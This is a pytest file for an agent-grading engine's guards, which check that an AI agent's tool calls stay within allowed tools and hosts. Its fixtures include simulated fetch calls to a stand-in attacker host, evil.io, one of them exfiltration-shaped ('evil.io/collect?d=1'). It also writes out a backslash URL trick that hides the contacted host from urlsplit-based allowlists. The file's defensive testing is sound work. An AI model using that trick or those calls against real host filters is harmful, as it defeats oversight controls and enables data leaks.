"""Fail-fast guards (grading.md §5.5)."""

from __future__ import annotations

import pytest

from grading.engine import evidence_from_response, grade_case
from grading.engine.guards import host_allowed, tool_allowed
from grading.engine.types import CaseDef, GradeContext


def grade(rules: dict, calls: list, **kw):
    spec = {
        "validators": [
            {"key": "v", "type": "contains", "target": "final_output", "expected_from": "literal:"}
        ],
        "rules": rules,
    }
    ev = evidence_from_response({"final_output": "ok", "tool_calls": calls}, **kw)
    return grade_case(ev, CaseDef("c", "k"), spec, context=GradeContext(case_findings=[]))


@pytest.mark.parametrize(
    ("name", "allowed", "ok"),
    [
        ("Read", ["Read"], True),
        ("ReadFile", ["Read"], False),
        ("mcp__git__log", ["mcp__git__*"], True),
        ("x", [], False),
        ("x", ["*"], True),
    ],
)
def test_tool_allowed(name, allowed, ok):
    assert tool_allowed(name, allowed) is ok


@pytest.mark.parametrize(
    ("host", "allowed", "ok"),
    [
        ("api.example.com", ["api.example.com"], True),
        ("API.example.com".lower(), ["*.example.com"], True),
        ("example.com", ["*.example.com"], False),
        ("evil-example.com", ["*.example.com"], False),
        ("10.1.2.3", ["10.0.0.0/8"], True),
        ("192.168.1.1", ["10.0.0.0/8"], False),
        ("::1", ["::1/128"], True),
        ("10.1.2.3", ["10.1.2.3"], True),
        ("x.org", [], False),
    ],
)
def test_host_allowed(host, allowed, ok):
    assert host_allowed(host, allowed) is ok


def test_allowed_tools_sees_failed_calls_and_fails_the_case():
    g = grade(
        {"allowed_tools": ["Read"]}, [{"name": "Read"}, {"name": "Bash", "id": "c9", "status": "error"}]
    )
    r = g.expectations[0]
    assert r.key == "rules.allowed_tools" and r.kind.value == "guard"
    assert r.status.value == "FAILED" and "tool_call:1 (id c9) 'Bash'" in r.evidence
    assert g.gates["guards"] == "failed" and g.status.value == "FAILED"


def test_an_empty_list_allows_nothing_and_absent_means_no_guard():
    assert grade({"allowed_tools": []}, [{"name": "Read"}]).expectations[0].status.value == "FAILED"
    assert grade({"allowed_tools": []}, []).expectations[0].status.value == "PASSED"
    g = grade({}, [{"name": "Read"}])
    assert all(r.kind.value != "guard" for r in g.expectations) and g.gates["guards"] == "not_graded"


def test_allowed_hosts_from_urls_and_network_attributes():
    calls = [
        {"name": "fetch", "args": {"url": "https://docs.python.org/3/"}},
        {"name": "http_request", "args": {"request": {"url": "http://10.0.0.5:8080/x"}}},
        {"name": "Bash", "args": {"command": "echo https://ignored.example"}},
        {"name": "custom", "attributes": {"network": [{"host": "evil.io"}]}},
    ]
    g = grade({"allowed_hosts": ["*.python.org", "10.0.0.0/8"]}, calls)
    r = g.expectations[0]
    assert r.key == "rules.allowed_hosts" and r.status.value == "FAILED"
    assert "'evil.io'" in r.evidence and "ignored" not in r.evidence
    ok = grade({"allowed_hosts": ["*.python.org", "10.0.0.0/8", "evil.io"]}, calls)
    assert ok.expectations[0].status.value == "PASSED" and ok.status.value == "PASSED"


@pytest.mark.parametrize(
    "call",
    [
        {"name": "fetch", "args": {"url": "evil.io/collect?d=1"}},
        {"name": "http_request", "args": {"host": "evil.io:8443"}},
        {"name": "WebFetch", "args": {"request": {"base_url": "EVIL.io"}}},
        {"name": "curl", "args": {"urls": ["docs.python.org/3/", "evil.io"]}},
        {"name": "custom", "attributes": {"network": ["evil.io/x"]}},
    ],
)
def test_allowed_hosts_sees_destinations_without_a_scheme(call):
    # §5.5: the hosts of URLs in network-tool args; `host/path` and `host:port` reach the host too
    r = grade({"allowed_hosts": ["*.python.org"]}, [call]).expectations[0]
    assert r.status.value == "FAILED" and "'evil.io'" in r.evidence, r.evidence
    assert (
        grade({"allowed_hosts": ["*.python.org", "evil.io"]}, [call]).expectations[0].status.value == "PASSED"
    )


def test_scheme_less_text_outside_destination_args_is_not_a_host():
    calls = [
        {"name": "WebFetch", "args": {"url": "https://docs.python.org/3/", "prompt": "summarise README.md"}},
        {"name": "fetch", "args": {"url": "/local/page.html"}},
        {"name": "WebSearch", "args": {"query": "python.org"}},
    ]
    r = grade({"allowed_hosts": ["*.python.org"]}, calls).expectations[0]
    assert r.status.value == "PASSED", r.evidence


def test_black_box_guard_is_unavailable_and_gating():
    g = grade({"allowed_tools": ["Read"]}, [], evidence_level="black_box")
    r = g.expectations[0]
    assert r.status.value == "UNAVAILABLE" and r.gating
    assert g.status.value == "UNAVAILABLE" and g.gates["guards"] == "not_graded"


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.io\\@docs.python.org/",  # WHATWG parsers (browsers, fetch) read \ as /: evil.io
        "https://evil.io\\.docs.python.org/",
        "evil.io\\@docs.python.org",
    ],
)
def test_a_backslash_cannot_hide_the_host_a_fetcher_contacts(url):
    # urlsplit reads "evil.io\@docs.python.org" as user info and an allowed host; a browser or
    # fetch() goes to evil.io. The guard checks every host a fetcher may read from the URL.
    r = grade(
        {"allowed_hosts": ["docs.python.org", "*.python.org"]}, [{"name": "fetch", "args": {"url": url}}]
    )
    assert r.expectations[0].status.value == "FAILED", r.expectations[0].evidence
    assert "'evil.io'" in r.expectations[0].evidence


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://bücher.de/x", ["xn--bcher-kva.de"]),  # one host, two spellings (IDNA)
        ("https://xn--bcher-kva.de/x", ["bücher.de"]),
        ("https://shop.bücher.de/x", ["*.xn--bcher-kva.de"]),
        ("https://example.com/x", ["example.com."]),  # a trailing dot names the same host
        ("https://Example.COM./x", ["EXAMPLE.com"]),
        ("https://example%2Ecom/x", ["example.com"]),  # fetchers percent-decode the host
    ],
)
def test_one_host_spelled_two_ways_is_allowed(url, allowed):
    r = grade({"allowed_hosts": allowed}, [{"name": "fetch", "args": {"url": url}}]).expectations[0]
    assert r.status.value == "PASSED", r.evidence


def _crash(*_args, **_kw):
    raise RuntimeError("injected")


def _spec_with_rules(rules: dict) -> dict:
    return {
        "validators": [
            {"key": "v", "type": "contains", "target": "final_output", "expected_from": "literal:ok"}
        ],
        "rules": rules,
    }


def test_a_crashing_guard_costs_that_guard_only(monkeypatch, caplog):
    # Guards ran outside any try: one crash lost the whole case (every other check, the
    # other guard's violation included). Now it is that guard's ERROR / evaluator_error.
    from grading.engine import guards

    monkeypatch.setattr(guards, "destinations", _crash)  # allowed_hosts crashes on any call
    rules = {
        "allowed_tools": ["fetch"],
        "allowed_hosts": ["docs.python.org"],
        "job": [
            {"label": "said ok", "validator": "pattern_match", "where": "job_resolution", "pattern": "ok"}
        ],
    }
    calls = [{"name": "fetch", "args": {"url": "https://evil.io/"}}, {"name": "Bash", "args": {}}]
    ev = evidence_from_response({"final_output": "ok", "tool_calls": calls})
    g = grade_case(ev, CaseDef("c", "k"), _spec_with_rules(rules), context=GradeContext(case_findings=[]))
    assert g.message is None, g.message  # not the last net's crashed grade
    by_key = {e.key: e for e in g.expectations}
    hosts = by_key["rules.allowed_hosts"]
    assert (hosts.status.value, hosts.outcome_class.value, hosts.reason_code) == (
        "ERROR",
        "evaluator_error",
        "exception",
    )
    assert hosts.kind.value == "guard" and hosts.gating and hosts.passed is None
    assert "guard crashed: RuntimeError: injected" in hosts.evidence
    assert hosts.text == "only allowed hosts are contacted: docs.python.org"
    assert "guard rules.allowed_hosts crashed" in caplog.text  # logged, with its traceback
    # the rest of the case is graded: the other guard's violation fails the case
    assert by_key["rules.allowed_tools"].status.value == "FAILED"
    assert by_key["v"].status.value == "PASSED"
    assert by_key["rules.job[0]"].status.value == "PASSED"
    assert g.status.value == "FAILED" and g.gates["guards"] == "failed"


def test_a_crashing_guard_alone_leaves_the_case_without_a_verdict(monkeypatch):
    # grading.md §10.2: no failure, and a gating input (the guard) is ERROR: the case is ERROR,
    # never FAILED against the agent, and never PASSED on an unchecked guard.
    from grading.engine import guards

    monkeypatch.setattr(guards, "tool_allowed", _crash)
    ev = evidence_from_response({"final_output": "ok", "tool_calls": [{"name": "Read", "args": {}}]})
    spec = _spec_with_rules({"allowed_tools": ["Read"]})
    g = grade_case(ev, CaseDef("c", "k"), spec, context=GradeContext(case_findings=[]))
    assert g.message is None, g.message
    tools = g.expectations[0]
    assert (tools.key, tools.status.value, tools.reason_code) == ("rules.allowed_tools", "ERROR", "exception")
    assert tools.text == "only allowed tools are called: Read"
    assert g.expectations[1].status.value == "PASSED"
    assert (g.status.value, g.outcome_class.value, g.gates["guards"]) == (
        "ERROR",
        "evaluator_error",
        "not_graded",
    )
